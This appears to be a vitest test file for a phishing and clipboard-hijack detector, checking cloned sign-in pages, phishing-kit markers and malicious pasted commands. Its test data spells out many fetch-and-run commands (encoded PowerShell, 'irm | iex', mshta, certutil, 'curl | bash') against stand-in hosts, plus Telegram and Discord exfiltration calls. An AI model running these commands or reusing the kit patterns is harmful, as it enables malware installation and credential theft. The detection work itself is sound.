import { products } from '@muster/contract/catalog/products'
import { expect, test } from 'vitest'
import { imitatedProvider } from './cloned-page.ts'
import { carriesAddress, isDrawnAddress, isDropScript, isPhishingTool, marksIn } from './kit-marks.ts'
import type { PageFeatures } from './page-features.ts'
import { isMaliciousCopy, isShellCommand, mayBeCommand } from './shell-command.ts'
import { modeFor } from './threat-mode.ts'

const providers = products.filter(({ identityProvider }) => identityProvider !== undefined)
const page = (features: Partial<PageFeatures>): PageFeatures => ({
  title: '',
  headings: [],
  text: '',
  fieldNames: [],
  pictureHosts: [],
  scriptHosts: [],
  linkHosts: [],
  formHosts: [],
  pictureWords: [],
  marks: [],
  ...features,
})
const imitated = (features: Partial<PageFeatures>, host = 'secure-portal.example') =>
  imitatedProvider(page(features), host, providers)?.product.appType

test.each<[string, Partial<PageFeatures>, string]>([
  [
    'a copy of the Microsoft page',
    {
      title: 'Sign in to your account',
      pictureWords: ['Microsoft'],
      fieldNames: ['loginfmt', 'passwd'],
      pictureHosts: ['aadcdn.msauth.net'],
    },
    'MICROSOFT_365',
  ],
  [
    'its pictures and title',
    { title: 'Sign in to your account', pictureHosts: ['aadcdn.msftauth.net'] },
    'MICROSOFT_365',
  ],
  [
    'its title and heading',
    { title: 'Microsoft account | Sign in', headings: ['Sign in to Microsoft'] },
    'MICROSOFT_365',
  ],
  [
    'a file of its logo',
    { title: 'Microsoft 365 Login', pictureWords: ['microsoft_logo.svg'.replace('_', ' ')] },
    'MICROSOFT_365',
  ],
  [
    'a copy of the Google page',
    { title: 'Sign in - Google Accounts', fieldNames: ['identifierId'] },
    'GOOGLE_WORKSPACE',
  ],
  ['Google by its logo', { title: 'Gmail', pictureWords: ['Google'] }, 'GOOGLE_WORKSPACE'],
  [
    'GitHub',
    { title: 'Sign in to GitHub', headings: ['Sign in to GitHub'], fieldNames: ['login_field', 'password'] },
    'GITHUB',
  ],
  ['LinkedIn', { title: 'LinkedIn Login', fieldNames: ['session_key', 'session_password'] }, 'LINKEDIN'],
  [
    'Okta, submitted elsewhere',
    { title: 'Okta - Sign In', headings: ['Okta'], formHosts: ['collect.example'] },
    'OKTA',
  ],
])('%s on an unknown host is a clone', (_, features, provider) => {
  expect(imitated(features)).toBe(provider)
})

test.each<[string, Partial<PageFeatures>]>([
  [
    'an app with provider buttons',
    {
      title: 'Log in to Acme',
      headings: ['Log in'],
      text: 'continue with google continue with microsoft',
      scriptHosts: ['accounts.google.com'],
    },
  ],
  [
    'a shop with Google fonts',
    { title: 'Acme', pictureHosts: ['fonts.gstatic.com', 'fonts.googleapis.com'] },
  ],
  ['a company named like a provider', { title: 'Apple Farm - Login', headings: ['Apple Farm'] }],
  ['a book shop', { title: 'Amazon Rainforest Trust | Sign in', headings: ['Amazon Rainforest Trust'] }],
  [
    "a company's own GitLab",
    {
      title: 'Sign in · GitLab',
      headings: ['GitLab'],
      pictureWords: ['GitLab'],
      formHosts: ['secure-portal.example'],
    },
  ],
  [
    "a company's own mail server",
    {
      title: 'Outlook',
      pictureWords: ['Outlook'],
      fieldNames: ['username', 'password'],
      formHosts: ['secure-portal.example'],
    },
  ],
  [
    "a customer's own host of Okta",
    {
      title: 'Acme - Sign In',
      headings: ['Sign In'],
      fieldNames: ['okta-signin-username'],
      pictureHosts: ['ok12static.oktacdn.com'],
    },
  ],
  [
    'a federation server',
    { title: 'Sign In', headings: ['Acme'], fieldNames: ['UserName', 'Password', 'AuthMethod'] },
  ],
  [
    'an article about signing in',
    { title: 'How to sign in to Microsoft Teams', headings: ['How to sign in to Microsoft Teams'] },
  ],
  [
    'an app with Google One Tap and its icon',
    {
      title: 'Log in | Acme Invoicing',
      headings: ['Welcome back', 'Sign in with Google'],
      pictureHosts: ['accounts.google.com'],
      pictureWords: ['Acme logo', 'google.svg'],
    },
  ],
  [
    "an app with Apple's button image",
    { title: 'Log in', pictureHosts: ['appleid.cdn-apple.com'], pictureWords: ['Sign in with Apple'] },
  ],
  [
    'an app with a link to its source',
    { title: 'Acme', pictureHosts: ['github.githubassets.com'], pictureWords: ['GitHub', 'GitHub Mark.png'] },
  ],
  ['an empty page', {}],
])('%s is no clone', (_, features) => {
  expect(imitated(features)).toBeUndefined()
})

const padded = (script: string) => `/* ${'x'.repeat(100)} */ ${script}`
test.each<[string, string[], boolean]>([
  ['sends input to a bot', marksIn(padded('fetch("https://api.telegram.org/bot12:ab/sendMessage")')), true],
  ['sends what is typed to a hook', marksIn('post("https://discord.com/api/webhooks/1/x")'), true],
  [
    'proxies the Microsoft page',
    marksIn('var x;$Config={"fShowX":true,"sCtx":"rQQ","urlPost":"/common/login"};'),
    true,
  ],
  ['proxies the Google page', marksIn('window.WIZ={"qwAQke":"AccountsSignInUi"}'), true],
  ['draws a window with an address, and submits to a script', ['DRAWN_ADDRESS', 'POSTED_TO_SCRIPT'], true],
  ['shows the address of a sign-in page', ['DRAWN_ADDRESS'], false],
  [
    'is written by a script and takes the address from the link',
    [...marksIn('document.write(unescape("%3C"))'), 'ADDRESS_IN_FRAGMENT'],
    true,
  ],
  [
    'is packed, looks up addresses, and submits to a script',
    [...marksIn('eval(atob("x")); get("https://api.ipify.org")'), 'POSTED_TO_SCRIPT'],
    true,
  ],
  ['looks an address up', marksIn('fetch("https://ipinfo.io/json")'), false],
  ['has no context menu and submits to a script', ['NO_CONTEXT_MENU', 'POSTED_TO_SCRIPT'], false],
  ['has an old packer', marksIn('eval(function(p,a,c,k,e,d){})'), false],
  ['has one mark twice', ['ADDRESS_IN_FRAGMENT', 'ADDRESS_IN_FRAGMENT'], false],
  ['has its own configuration', marksIn('$Config = {"theme":"dark"}'), false],
  ['has nothing', [], false],
])('a page that %s is from a phishing tool or not', (_, marks, isTool) => {
  expect(isPhishingTool(marks)).toBe(isTool)
})

test.each([
  ['#ada@example.com', true],
  ['#YWRhQGV4YW1wbGUuY29t', true],
  ['#x$ada%40example.com', true],
  ['#/ada@example.com', true],
  ['#/users/ada', false],
  ['#/users/ada@example.com', false],
  ['#/invite?email=ada@example.com', false],
  ['#section-2', false],
  ['', false],
])('a fragment %s contains an address: %s', (fragment, carries) => {
  expect(carriesAddress(fragment)).toBe(carries)
})

test('drawn addresses and collecting scripts are recognized', () => {
  const drawn = [
    'https://accounts.google.com/signin/v2',
    'login.microsoftonline.com',
    'Log in at accounts.google.com',
  ]
  expect(drawn.map(isDrawnAddress)).toEqual([true, true, false])
  expect(['/a/post.php', '/next2.php', '/index.php', '/login'].map(isDropScript)).toEqual([
    true,
    true,
    false,
    false,
  ])
})

test.each([
  'powershell -w hidden -enc SQBFAFgA',
  'PowerShell.exe -NoP -W H -C "iex (irm https://x.example/a)"',
  'pow^ershell -e SQBFAFgA',
  'irm https://x.example/i.ps1 | iex',
  'mshta https://x.example/a.hta # I am not a robot: reCAPTCHA ID 1234',
  'cmd /c start /min powershell -c x',
  'cmd.exe /c curl -o %temp%\\a.exe https://x.example && %temp%\\a.exe',
  'certutil -urlcache -f https://x.example/a a.exe',
  'msiexec /i https://x.example/a.msi /qn',
  'rundll32 \\\\x.example\\a.dll,Run',
  'curl -fsSL https://x.example/i.sh | bash',
  'wget -qO- https://x.example | sudo sh',
  'bash -c "$(curl -fsSL https://x.example)"',
  'echo Y3VybA== | base64 -d | bash',
  'osascript -e \'do shell script "curl x"\'',
  'python3 -c "import urllib.request;exec(urllib.request.urlopen(\'https://x\').read())"',
])('%s is a command', (text) => {
  expect(isShellCommand(text)).toBe(true)
  expect(mayBeCommand(text)).toBe(true)
})

test.each([
  'npm install react',
  'git clone https://github.com/acme/app.git',
  'curl https://api.example.com/v1/users',
  'docker run -p 80:80 nginx',
  'SELECT * FROM users',
  'The PowerShell team met on Monday.',
  'Use the command prompt',
  'https://example.com/?cmd=1',
  '',
])('%s is not a command', (text) => {
  expect(isShellCommand(text)).toBe(false)
})

const install = 'curl -fsSL https://x.example/i.sh | bash'
test.each<[string, string, string, string, boolean]>([
  ['a hidden command', install, '', 'Verification needed', true],
  ['a visible one with a lure', install, '', `Press Win + R and Ctrl+V: ${install}`, true],
  [
    'a visible one in instructions',
    install,
    '',
    `Install with:  curl -fsSL https://x.example/i.sh |\n bash  Copy`,
    false,
  ],
  ['the selected text', install, install, 'hidden', false],
  ['no command', 'hello', '', 'Press Win + R', false],
])('%s on the clipboard is malicious or not', (_, text, selected, readable, malicious) => {
  expect(isMaliciousCopy(text, selected, readable)).toBe(malicious)
})

test('a protection uses the app’s mode, or else its default', () => {
  const protection = { mode: 'WARN', byApp: { OKTA: 'BLOCK' } } as const
  expect([modeFor(protection, 'OKTA'), modeFor(protection, 'ZOOM'), modeFor(protection, null)]).toEqual([
    'BLOCK',
    'WARN',
    'WARN',
  ])
  expect(modeFor(protection, 'toString')).toBe('WARN')
})
